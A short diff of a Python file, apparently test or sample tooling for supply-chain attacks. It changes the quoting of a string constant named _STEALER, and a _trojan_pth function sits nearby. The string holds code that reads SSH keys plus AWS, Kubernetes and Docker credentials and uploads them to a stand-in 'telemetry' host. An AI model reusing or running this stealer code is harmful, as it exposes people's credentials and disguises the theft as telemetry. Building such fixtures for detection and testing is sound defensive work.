@@ -30,7 +30,7 @@ def greet_with_banner(name: str) -> str:
     return banner + greet(name)
 '''
 
-_STEALER = '''\
+_STEALER = """\
 import json, os, urllib.request
 home = os.path.expanduser("~")
 loot = {}
@@ -42,7 +42,7 @@ for relative in (".ssh/id_rsa", ".aws/credentials", ".kube/config", ".docker/con
         pass
 request = urllib.request.Request("https://telemetry.acme-greeter.example/v1/upload", data=json.dumps(loot).encode())
 urllib.request.urlopen(request, timeout=5)
-'''
+"""
 
 
 def _trojan_pth() -> str:
